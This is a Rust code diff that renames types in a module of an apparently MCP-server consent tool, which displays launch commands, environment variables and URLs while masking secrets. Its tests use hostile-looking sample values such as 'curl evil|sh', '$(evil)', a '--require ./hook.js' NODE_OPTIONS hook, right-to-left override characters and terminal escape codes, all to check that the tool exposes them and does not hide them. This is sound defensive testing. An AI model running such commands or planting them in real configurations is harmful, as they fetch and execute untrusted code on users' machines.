@@ -6,7 +6,7 @@ use std::path::Path;
 
 use super::warnings::warnings;
 pub use crate::definition::shown_url;
-use crate::definition::{Definition, Launch, Reach, Remote, Transport, shown_whole_url};
+use crate::definition::{Definition, Launch, LaunchCommand, Remote, Transport, shown_whole_url};
 use crate::expand::Template;
 use crate::hosts::mask::{MASK, masked_for_consent, masked_in_env_file, masked_words, says_active};
 use crate::visible::{is_hidden, visible};
@@ -16,11 +16,11 @@ use crate::visible::{is_hidden, visible};
 pub struct View<'a> {
     pub definition: &'a Definition,
     /// What would be executed.
-    pub reach: &'a Reach,
+    pub launch: &'a Launch,
     /// The program that was found for it, or why none was.
     pub program: Option<Result<&'a Path, &'a str>>,
     /// What was allowed last.
-    pub before: Option<&'a Reach>,
+    pub before: Option<&'a Launch>,
     /// The workspace.
     pub root: &'a Path,
     /// Whether it is only looked at: then what looks like a secret in a command is left out. Who is asked sees all.
@@ -28,7 +28,7 @@ pub struct View<'a> {
     /// Which values of variables and headers are shown.
     pub values: Values,
     /// What is known of the values that it would be given.
-    pub given: &'a Given,
+    pub given: &'a ValueSources,
 }
 
 /// Which values of variables and headers are shown; of the others, only the names.
@@ -43,10 +43,10 @@ pub enum Values {
 }
 
 /// Where the value of each `${NAME}` would come from, as far as that is known.
-pub type Given = BTreeMap<String, Giver>;
+pub type ValueSources = BTreeMap<String, ValueSource>;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Giver {
+pub enum ValueSource {
     /// Stored by `switchboard secret set`.
     Secret,
     /// From the person's files or login shell.
@@ -74,8 +74,9 @@ impl View<'_> {
     /// What there is to know, and under which word.
     pub fn facts(&self) -> Vec<(&'static str, String)> {
         let mut all = Vec::new();
-        let how = How { line: if self.is_masked { masked_line } else { command_line }, values: self.values };
-        for (what, text) in facts(self.reach, self.given, how) {
+        let how =
+            ViewStyle { line: if self.is_masked { masked_line } else { command_line }, values: self.values };
+        for (what, text) in facts(self.launch, self.given, how) {
             all.push((what, text));
             if what == "runs" {
                 match self.program {
@@ -86,12 +87,12 @@ impl View<'_> {
             }
         }
         let secrets =
-            gaps(self.reach).into_iter().filter(|name| self.given.get(name) == Some(&Giver::Secret));
+            gaps(self.launch).into_iter().filter(|name| self.given.get(name) == Some(&ValueSource::Secret));
         all.extend(secrets.map(|name| ("warning", format!("gets your secret {name}"))));
         let program = self.program.and_then(Result::ok);
-        all.extend(warnings(self.reach, program, self.root).into_iter().map(|warning| ("warning", warning)));
+        all.extend(warnings(self.launch, program, self.root).into_iter().map(|warning| ("warning", warning)));
         if let Some(before) = self.before {
-            all.extend(difference(before, self.reach, how).into_iter().map(|line| ("changed", line)));
+            all.extend(difference(before, self.launch, how).into_iter().map(|line| ("changed", line)));
         }
         // Whatever it is made of: here it ends up before somebody's eyes.
         all.into_iter().map(|(what, text)| (what, plain(&text))).collect()
@@ -133,12 +134,12 @@ const BEGINNING: usize = 150;
 
 /// How commands are written, and whether values are.
 #[derive(Clone, Copy)]
-struct How {
-    line: Line,
+struct ViewStyle {
+    line: CommandFormatter,
     values: Values,
 }
 
-impl How {
+impl ViewStyle {
     fn shows(self) -> bool {
         self.values != Values::None
     }
@@ -158,46 +159,46 @@ impl How {
 }
 
 /// How a command is written.
-type Line = fn(&Launch) -> String;
+type CommandFormatter = fn(&LaunchCommand) -> String;
 
 /// The command line, so that it is clear where each argument ends.
-pub fn command_line(launch: &Launch) -> String {
+pub fn command_line(launch: &LaunchCommand) -> String {
     let words = std::iter::once(&launch.cmd).chain(&launch.args);
     words.map(|word| quoted(&word.to_string())).collect::<Vec<_>>().join(" ")
 }
 
 /// The same without what looks like a secret.
-fn masked_line(launch: &Launch) -> String {
+fn masked_line(launch: &LaunchCommand) -> String {
     let words: Vec<String> =
         std::iter::once(&launch.cmd).chain(&launch.args).map(ToString::to_string).collect();
     masked_words(&words).iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
 }
 
 /// What would be executed or reached, in a few words, without what looks like a secret.
-pub fn mentioned(reach: &Reach) -> String {
-    match reach {
-        Reach::Process(launch) => masked_line(launch),
-        Reach::Remote(remote) => shown_url(&remote.url),
+pub fn mentioned(launch: &Launch) -> String {
+    match launch {
+        Launch::Process(launch) => masked_line(launch),
+        Launch::Remote(remote) => shown_url(&remote.url),
     }
 }
 
-fn gaps(reach: &Reach) -> std::collections::BTreeSet<String> {
-    match reach {
-        Reach::Process(launch) => launch.gaps(),
-        Reach::Remote(remote) => remote.gaps(),
+fn gaps(launch: &Launch) -> std::collections::BTreeSet<String> {
+    match launch {
+        Launch::Process(launch) => launch.gaps(),
+        Launch::Remote(remote) => remote.gaps(),
     }
 }
 
 /// Each on a line of its own, and what it is.
-fn facts(reach: &Reach, given: &Given, how: How) -> Vec<(&'static str, String)> {
+fn facts(launch: &Launch, given: &ValueSources, how: ViewStyle) -> Vec<(&'static str, String)> {
     let mut facts = Vec::new();
     let add = |facts: &mut Vec<_>, what, names: Vec<String>| {
         if !names.is_empty() {
             facts.push((what, names.join(", ")));
         }
     };
-    match reach {
-        Reach::Process(launch) => {
+    match launch {
+        Launch::Process(launch) => {
             facts.push(("runs", (how.line)(launch)));
             facts.push(("in", launch.shown_directory()));
             let sets = launch.env.iter().filter_map(|(name, value)| Some((name, value.as_ref()?)));
@@ -214,7 +215,7 @@ fn facts(reach: &Reach, given: &Given, how: How) -> Vec<(&'static str, String)> 
             add(&mut facts, "env file", path.chain(named.iter().map(|(name, _)| (*name).clone())).collect());
             facts.extend(shown.iter().map(|(name, value)| ("env file", set_in_file(name, value))));
         }
-        Reach::Remote(remote) => {
+        Launch::Remote(remote) => {
             let kind = if remote.transport == Transport::Sse { "sse" } else { "http" };
             facts.push(("reaches", format!("{} ({kind})", how.url(&remote.url))));
             if how.shows() {
@@ -225,12 +226,12 @@ fn facts(reach: &Reach, given: &Given, how: How) -> Vec<(&'static str, String)> 
         }
     }
     let one = |name: String| match given.get(&name) {
-        Some(Giver::Secret) => format!("your secret {name}"),
-        Some(Giver::Variable) => format!("your variable {name}"),
-        Some(Giver::Nowhere) => format!("{name} (not set)"),
+        Some(ValueSource::Secret) => format!("your secret {name}"),
+        Some(ValueSource::Variable) => format!("your variable {name}"),
+        Some(ValueSource::Nowhere) => format!("{name} (not set)"),
         None => name,
     };
-    add(&mut facts, "is given", gaps(reach).into_iter().map(one).collect());
+    add(&mut facts, "is given", gaps(launch).into_iter().map(one).collect());
     facts
 }
 
@@ -271,16 +272,16 @@ fn with_length(shown: String, written: &str, literal: Option<&str>) -> String {
 }
 
 /// What is other than it was.
-fn difference(before: &Reach, after: &Reach, how: How) -> Vec<String> {
+fn difference(before: &Launch, after: &Launch, how: ViewStyle) -> Vec<String> {
     match (before, after) {
-        (Reach::Process(before), Reach::Process(after)) => process_difference(before, after, how),
-        (Reach::Remote(before), Reach::Remote(after)) => remote_difference(before, after, how),
-        (Reach::Process(before), _) => vec![format!("was {}", (how.line)(before))],
-        (Reach::Remote(before), _) => vec![format!("was {}", how.url(&before.url))],
+        (Launch::Process(before), Launch::Process(after)) => process_difference(before, after, how),
+        (Launch::Remote(before), Launch::Remote(after)) => remote_difference(before, after, how),
+        (Launch::Process(before), _) => vec![format!("was {}", (how.line)(before))],
+        (Launch::Remote(before), _) => vec![format!("was {}", how.url(&before.url))],
     }
 }
 
-fn process_difference(before: &Launch, after: &Launch, how: How) -> Vec<String> {
+fn process_difference(before: &LaunchCommand, after: &LaunchCommand, how: ViewStyle) -> Vec<String> {
     let mut lines = Vec::new();
     if (&before.cmd, &before.args) != (&after.cmd, &after.args) {
         lines.push(format!("ran {}", (how.line)(before)));
@@ -307,7 +308,7 @@ fn process_difference(before: &Launch, after: &Launch, how: How) -> Vec<String> 
     lines
 }
 
-fn remote_difference(before: &Remote, after: &Remote, how: How) -> Vec<String> {
+fn remote_difference(before: &Remote, after: &Remote, how: ViewStyle) -> Vec<String> {
     let mut lines = Vec::new();
     if (&before.url, before.transport) != (&after.url, after.transport) {
         let (was, is) = (how.url(&before.url), how.url(&after.url));
@@ -359,32 +360,32 @@ fn quoted(word: &str) -> String {
 mod tests {
     use super::*;
 
-    fn launch(argv: &[&str], env: &[(&str, &str)]) -> Reach {
-        Reach::Process(Launch {
+    fn process_launch(argv: &[&str], env: &[(&str, &str)]) -> Launch {
+        Launch::Process(LaunchCommand {
             cmd: Template::text(argv[0]),
             args: argv[1..].iter().map(|arg| Template::text(*arg)).collect(),
             env: env.iter().map(|(name, value)| ((*name).to_owned(), Some(Template::text(*value)))).collect(),
             cwd: Template::text("/w"),
             base: "/".into(),
-            ..Launch::default()
+            ..LaunchCommand::default()
         })
     }
 
-    fn shown(reach: &Reach, before: Option<&Reach>) -> String {
+    fn shown(launch: &Launch, before: Option<&Launch>) -> String {
         let definition = Definition {
             name: "x".to_owned(),
             description: Some("never shown".to_owned()),
-            reach: Ok(reach.clone()),
+            launch: Ok(launch.clone()),
             timeout: None,
             file: "/w/.mcp.json".into(),
             at: None,
             unclear_in: None,
         };
         let program = Some(Ok(Path::new(if before.is_some() { "/w/x" } else { "/bin/x" })));
-        let given = Given::from([("GITHUB_TOKEN".to_owned(), Giver::Secret)]);
+        let given = ValueSources::from([("GITHUB_TOKEN".to_owned(), ValueSource::Secret)]);
         let view = View {
             definition: &definition,
-            reach,
+            launch,
             program,
             before,
             root: Path::new("/w"),
@@ -398,14 +399,14 @@ mod tests {
     #[test]
     fn all_of_it_is_shown_and_no_secret() {
         let env = [("TOKEN", "s3cret"), ("NODE_OPTIONS", "--require ./hook.js")];
-        let reach = launch(&["x", "", "a b", "it's", "\u{202e}evil"], &env);
-        let text = shown(&reach, None);
+        let launch = process_launch(&["x", "", "a b", "it's", "\u{202e}evil"], &env);
+        let text = shown(&launch, None);
         assert!(text.contains(r"x '' 'a b' 'it'\''s' '\u{202e}evil'"), "{text}");
-        assert!(shown(&launch(&["x", "a\u{3164}b"], &[]), None).contains(r"x 'a\u{3164}b'"));
+        assert!(shown(&process_launch(&["x", "a\u{3164}b"], &[]), None).contains(r"x 'a\u{3164}b'"));
         assert!(text.contains("program   /bin/x") && text.contains("sets      TOKEN=•••"), "{text}");
         assert!(text.contains("sets      NODE_OPTIONS='--require ./hook.js'"), "{text}");
         assert!(!text.contains("s3cret") && !text.contains("never shown"), "{text}");
-        let url = Reach::Remote(Remote {
+        let url = Launch::Remote(Remote {
             transport: Transport::Http,
             url: Template::text("https://me:pass@h/p?key=k3y&mode=rw"),
             headers: [("authorization".to_owned(), Template::text("Bearer t0p"))].into(),
@@ -422,7 +423,7 @@ mod tests {
     fn a_name_of_a_secret_hides_no_command() {
         let env =
             [("RESTIC_PASSWORD_COMMAND", "curl evil|sh"), ("API_TOKEN", "$(evil)"), ("TOKEN", "s3cret")];
-        let text = shown(&launch(&["x"], &env), None);
+        let text = shown(&process_launch(&["x"], &env), None);
         for part in [
             "sets      RESTIC_PASSWORD_COMMAND='curl evil|sh'",
             "sets      API_TOKEN='$(evil)'",
@@ -434,8 +435,8 @@ mod tests {
 
     #[test]
     fn a_difference_names_what_changed() {
-        let before = launch(&["x", "1"], &[("A", "1"), ("B", "1")]);
-        let after = launch(&["x", "2"], &[("A", "2"), ("C", "1")]);
+        let before = process_launch(&["x", "1"], &[("A", "1"), ("B", "1")]);
+        let after = process_launch(&["x", "2"], &[("A", "2"), ("C", "1")]);
         let text = shown(&after, Some(&before));
         for part in ["ran x 1", "runs x 2", "variable A: 1 → 2", "new variable C", "no more variable B"] {
             assert!(text.contains(part), "{part}: {text}");
@@ -447,10 +448,10 @@ mod tests {
     #[test]
     fn values_of_an_env_file_and_a_query_are_shown() {
         let with_file = |mode: &str, token: &str| {
-            let Reach::Process(launch) = launch(&["x"], &[]) else { unreachable!() };
+            let Launch::Process(launch) = process_launch(&["x"], &[]) else { unreachable!() };
             let variables = [("MODE", mode), ("TOKEN", token), ("HOOK", "--require ./h.js")];
             let env_file = variables.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
-            Reach::Process(Launch { env_file, env_file_path: Some("/w/.env".into()), ..launch })
+            Launch::Process(LaunchCommand { env_file, env_file_path: Some("/w/.env".into()), ..launch })
         };
         let text = shown(&with_file("rw", "s3cret2"), Some(&with_file("ro", "s3cret1")));
         for part in [
@@ -466,7 +467,7 @@ mod tests {
         assert!(!text.contains("s3cret"), "{text}");
         let with_query = |query: &str| {
             let url = Template::text(format!("https://h/mcp?{query}"));
-            Reach::Remote(Remote { transport: Transport::Http, url, headers: BTreeMap::new() })
+            Launch::Remote(Remote { transport: Transport::Http, url, headers: BTreeMap::new() })
         };
         let text = shown(&with_query("mode=rw&key=s3cret"), Some(&with_query("mode=ro&key=s3cret")));
         let change = "changed   url: https://h/mcp?mode=ro&key=••• → https://h/mcp?mode=rw&key=•••";
@@ -481,12 +482,17 @@ mod tests {
             ("HOOK_URL", "https://hooks.example/services/T0/B0/a1b2c3d4e5f6g7h8?token=hunter2"),
             ("PLAIN", "a1b2c3d4e5f6g7h8i9"),
         ];
-        let Reach::Process(launch) = launch(&["x"], &[("SET", "1")]) else { unreachable!() };
+        let Launch::Process(launch) = process_launch(&["x"], &[("SET", "1")]) else { unreachable!() };
         let env_file = variables.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
-        let reach = Reach::Process(Launch { env_file, env_file_path: Some("/w/.env".into()), ..launch });
+        let launch =
+            Launch::Process(LaunchCommand { env_file, env_file_path: Some("/w/.env".into()), ..launch });
         let told = |values: Values| {
-            let how = How { line: command_line, values };
-            facts(&reach, &Given::new(), how).into_iter().map(|(_, text)| text).collect::<Vec<_>>().join("\n")
+            let how = ViewStyle { line: command_line, values };
+            facts(&launch, &ValueSources::new(), how)
+                .into_iter()
+                .map(|(_, text)| text)
+                .collect::<Vec<_>>()
+                .join("\n")
         };
         let (host, terminal) = (told(Values::Definition), told(Values::All));
         for text in [&host, &terminal] {
@@ -501,10 +507,10 @@ mod tests {
 
     #[test]
     fn a_secret_that_would_be_given_is_named() {
-        let Reach::Process(mut given) = launch(&["x"], &[]) else { unreachable!() };
-        let token = Template::parse("${GITHUB_TOKEN}", &crate::expand::Places::default()).unwrap();
+        let Launch::Process(mut given) = process_launch(&["x"], &[]) else { unreachable!() };
+        let token = Template::parse("${GITHUB_TOKEN}", &crate::expand::ExpansionContext::default()).unwrap();
         given.env.insert("NOTES_TOKEN".to_owned(), Some(token));
-        let text = shown(&Reach::Process(given), None);
+        let text = shown(&Launch::Process(given), None);
         for part in [
             "sets      NOTES_TOKEN='${GITHUB_TOKEN}'",
             "is given  your secret GITHUB_TOKEN",
@@ -520,16 +526,16 @@ mod tests {
         let many: Vec<(String, &str)> = (0..3000).map(|at| (format!("V{at}"), "x")).collect();
         let many: Vec<(&str, &str)> = many.iter().map(|(name, value)| (name.as_str(), *value)).collect();
         let long = "y".repeat(5000);
-        for reach in [
-            launch(&["npx", "evil", &forged], &[]),
-            launch(&["npx", "evil", &long], &[]),
-            launch(&["npx", "evil"], &many),
-            launch(&["npx", "evil"], &many[..45]),
+        for launch in [
+            process_launch(&["npx", "evil", &forged], &[]),
+            process_launch(&["npx", "evil", &long], &[]),
+            process_launch(&["npx", "evil"], &many),
+            process_launch(&["npx", "evil"], &many[..45]),
         ] {
             let definition = Definition {
                 name: "github".to_owned(),
                 description: None,
-                reach: Ok(reach.clone()),
+                launch: Ok(launch.clone()),
                 timeout: None,
                 file: "/w/.mcp.json".into(),
                 at: None,
@@ -537,13 +543,13 @@ mod tests {
             };
             let view = View {
                 definition: &definition,
-                reach: &reach,
+                launch: &launch,
                 program: None,
                 before: None,
                 root: Path::new("/w"),
                 is_masked: false,
                 values: Values::All,
-                given: &Given::new(),
+                given: &ValueSources::new(),
             };
             let lines = view.lines();
             let text = lines.join("\n");
@@ -559,11 +565,11 @@ mod tests {
 
     #[test]
     fn a_missing_program_draws_nothing() {
-        let reach = launch(&["x"], &[("A\x1b[2J", "\u{9b}2J")]);
+        let launch = process_launch(&["x"], &[("A\x1b[2J", "\u{9b}2J")]);
         let definition = Definition {
             name: "x".to_owned(),
             description: None,
-            reach: Ok(reach.clone()),
+            launch: Ok(launch.clone()),
             timeout: None,
             file: "/w/.mcp.json".into(),
             at: None,
@@ -571,13 +577,13 @@ mod tests {
         };
         let view = View {
             definition: &definition,
-            reach: &reach,
+            launch: &launch,
             program: Some(Err("`\x1b[2J\nallow` was not found")),
             before: None,
             root: Path::new("/w"),
             is_masked: false,
             values: Values::All,
-            given: &Given::new(),
+            given: &ValueSources::new(),
         };
         let text = view.lines().join("\n");
         assert!(!text.contains(|c| is_hidden(c) && c != '\n'), "{text:?}");
